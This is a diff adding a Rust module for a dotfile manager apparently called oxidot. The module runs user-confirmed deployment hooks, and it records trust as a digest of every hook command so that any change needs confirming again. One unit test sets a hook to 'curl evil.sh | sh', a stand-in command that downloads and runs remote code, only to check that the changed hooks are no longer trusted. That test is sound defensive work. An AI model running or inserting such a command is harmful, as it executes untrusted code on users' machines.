@@ -0,0 +1,277 @@
+// SPDX-FileCopyrightText: 2025 Jason Pena <jasonpena@awkless.com>
+// SPDX-License-Identifier: MIT
+
+//! Deployment hooks.
+//!
+//! Deploying tracked files is often not the end of it, e.g., fonts need
+//! `fc-cache`, tmux needs a reload, some files need stricter permissions. Thus,
+//! cluster definitions can list commands to run around deployment through the
+//! `pre_deploy`, `post_deploy`, `pre_undeploy`, and `post_undeploy` settings.
+//!
+//! # Execution
+//!
+//! Each command is run through the shell with the work tree alias of the
+//! cluster as its current directory. Commands run in order, and the first
+//! command that fails stops everything after it. A failing pre hook thus
+//! prevents deployment entirely. The following environment variables are
+//! exported to every command:
+//!
+//! - `OXIDOT_CLUSTER`: name of the cluster.
+//! - `OXIDOT_GIT_DIR`: path to the gitdir of the cluster.
+//! - `OXIDOT_WORK_TREE`: path to the work tree alias of the cluster.
+//! - `OXIDOT_HOOK`: name of the hook being run, e.g., "post_deploy".
+//!
+//! # Trust
+//!
+//! Hooks are arbitrary commands from whoever wrote the cluster definition.
+//! Hooks of any cluster are shown to the user, who must confirm them before
+//! they run for the first time. Trust is recorded in the configuration of the
+//! cluster as a digest of every hook command, so any change to hooks must be
+//! confirmed again. Clusters that were initialized locally record trust in
+//! the hooks they were initialized with.
+
+use crate::config::ClusterSettings;
+
+use git2::{ObjectType, Oid};
+use inquire::{Confirm, InquireError};
+use std::{
+    ffi::OsStr,
+    fmt::{Display, Formatter, Result as FmtResult},
+    path::Path,
+    process::Command,
+};
+use tracing::{info, instrument};
+
+/// Configuration key that records trusted hooks of a cluster.
+pub const TRUST_KEY: &str = "oxidot.trustedHooks";
+
+/// Point around deployment that hooks run at.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum HookKind {
+    /// Before tracked files are deployed.
+    PreDeploy,
+
+    /// After tracked files are deployed.
+    PostDeploy,
+
+    /// Before tracked files are undeployed.
+    PreUndeploy,
+
+    /// After tracked files are undeployed.
+    PostUndeploy,
+}
+
+impl HookKind {
+    /// Every kind of hook in the order they are listed.
+    pub const ALL: [Self; 4] = [
+        Self::PreDeploy,
+        Self::PostDeploy,
+        Self::PreUndeploy,
+        Self::PostUndeploy,
+    ];
+
+    /// Name of hook setting in cluster definition.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::PreDeploy => "pre_deploy",
+            Self::PostDeploy => "post_deploy",
+            Self::PreUndeploy => "pre_undeploy",
+            Self::PostUndeploy => "post_undeploy",
+        }
+    }
+
+    /// Commands of hook in cluster settings.
+    pub fn commands(self, settings: &ClusterSettings) -> &[String] {
+        let commands = match self {
+            Self::PreDeploy => &settings.pre_deploy,
+            Self::PostDeploy => &settings.post_deploy,
+            Self::PreUndeploy => &settings.pre_undeploy,
+            Self::PostUndeploy => &settings.post_undeploy,
+        };
+
+        commands.as_deref().unwrap_or_default()
+    }
+}
+
+impl Display for HookKind {
+    fn fmt(&self, fmt: &mut Formatter<'_>) -> FmtResult {
+        fmt.write_str(self.name())
+    }
+}
+
+/// Compute digest over every hook command of cluster settings.
+///
+/// # Errors
+///
+/// - Return [`Error::Git2`] if digest cannot be computed.
+pub fn digest(settings: &ClusterSettings) -> Result<String> {
+    let mut data = Vec::new();
+    for kind in HookKind::ALL {
+        data.extend_from_slice(kind.name().as_bytes());
+        data.push(0);
+        for command in kind.commands(settings) {
+            data.extend_from_slice(command.as_bytes());
+            data.push(0);
+        }
+    }
+
+    Ok(Oid::hash_object(ObjectType::Blob, &data)?.to_string())
+}
+
+/// Check if hooks of cluster settings are trusted by recorded trust value.
+///
+/// # Errors
+///
+/// - Return [`Error::Git2`] if digest cannot be computed.
+pub fn is_trusted(settings: &ClusterSettings, trust: Option<&str>) -> Result<bool> {
+    match trust {
+        Some(trust) => Ok(trust == digest(settings)?),
+        None => Ok(false),
+    }
+}
+
+/// Ask user to trust hooks of named cluster.
+///
+/// Every hook command is shown before the user is asked.
+///
+/// # Errors
+///
+/// - Return [`Error::Untrusted`] if user declines, or cannot be asked.
+/// - Return [`Error::Prompt`] if prompt fails.
+pub fn confirm_trust(name: &str, settings: &ClusterSettings) -> Result<()> {
+    let mut lines = Vec::new();
+    for kind in HookKind::ALL {
+        for command in kind.commands(settings) {
+            lines.push(format!("  {kind}: {command}"));
+        }
+    }
+    info!("cluster {name} wants to run hooks:\n{}", lines.join("\n"));
+
+    let confirmed = Confirm::new(&format!("trust hooks of cluster {name}?"))
+        .with_default(false)
+        .prompt();
+
+    // INVARIANT: Without a terminal to ask on, hooks were not trusted.
+    match confirmed {
+        Ok(true) => Ok(()),
+        Ok(false) | Err(InquireError::NotTTY) => Err(Error::Untrusted { name: name.into() }),
+        Err(error) => Err(error.into()),
+    }
+}
+
+/// Run hook commands in order.
+///
+/// Each command is run through the shell with `cwd` as its current
+/// directory, and `envs` exported.
+///
+/// # Errors
+///
+/// - Return [`Error::Failed`] if any command exits unsuccessfully.
+/// - Return [`Error::Io`] if any command cannot be run.
+#[instrument(skip(commands, cwd, envs), level = "debug")]
+pub fn run(
+    kind: HookKind,
+    commands: &[String],
+    cwd: impl AsRef<Path>,
+    envs: &[(&str, &OsStr)],
+) -> Result<()> {
+    for command in commands {
+        info!("run {kind} hook: {command}");
+        let status = shell(command)
+            .current_dir(cwd.as_ref())
+            .envs(envs.iter().copied())
+            .env("OXIDOT_HOOK", kind.name())
+            .status()?;
+        if !status.success() {
+            return Err(Error::Failed {
+                kind,
+                command: command.clone(),
+            });
+        }
+    }
+
+    Ok(())
+}
+
+#[cfg(unix)]
+fn shell(command: &str) -> Command {
+    let mut shell = Command::new("sh");
+    shell.arg("-c").arg(command);
+    shell
+}
+
+#[cfg(not(unix))]
+fn shell(command: &str) -> Command {
+    let mut shell = Command::new("cmd");
+    shell.arg("/C").arg(command);
+    shell
+}
+
+/// Deployment hook error types.
+#[derive(Debug, thiserror::Error)]
+pub enum Error {
+    /// Hook command exits unsuccessfully.
+    #[error("{kind} hook {command:?} failed")]
+    Failed { kind: HookKind, command: String },
+
+    /// User does not trust hooks of cluster.
+    #[error("hooks of cluster {name} are not trusted, use --no-hooks to skip them")]
+    Untrusted { name: String },
+
+    /// User cannot be prompted.
+    #[error(transparent)]
+    Prompt(#[from] InquireError),
+
+    /// Operations from libgit2 fail.
+    #[error(transparent)]
+    Git2(#[from] git2::Error),
+
+    /// Hook command cannot be run.
+    #[error(transparent)]
+    Io(#[from] std::io::Error),
+}
+
+/// Friendly result alias :3
+pub type Result<T, E = Error> = std::result::Result<T, E>;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use pretty_assertions::assert_eq;
+    use sealed_test::prelude::*;
+    use std::fs::read_to_string;
+
+    #[sealed_test]
+    fn run_stops_at_first_failure() -> anyhow::Result<()> {
+        let commands = vec![
+            "echo \"$OXIDOT_HOOK $OXIDOT_CLUSTER\" > out".to_string(),
+            "false".into(),
+            "echo unreachable >> out".into(),
+        ];
+        let cwd = std::env::current_dir()?;
+        let envs = [("OXIDOT_CLUSTER", OsStr::new("shell"))];
+
+        let result = run(HookKind::PostDeploy, &commands, &cwd, &envs);
+        assert!(matches!(result, Err(Error::Failed { command, .. }) if command == "false"));
+        assert_eq!(read_to_string("out")?, "post_deploy shell\n");
+
+        Ok(())
+    }
+
+    #[test]
+    fn trust_follows_hook_changes() -> Result<()> {
+        let mut settings = ClusterSettings {
+            post_deploy: Some(vec!["fc-cache -f".into()]),
+            ..Default::default()
+        };
+        let trust = digest(&settings)?;
+        assert!(is_trusted(&settings, Some(&trust))?);
+        assert!(!is_trusted(&settings, Some("always"))?);
+        assert!(!is_trusted(&settings, None)?);
+
+        settings.pre_deploy = Some(vec!["curl evil.sh | sh".into()]);
+        assert!(!is_trusted(&settings, Some(&trust))?);
+
+        Ok(())
+    }
+}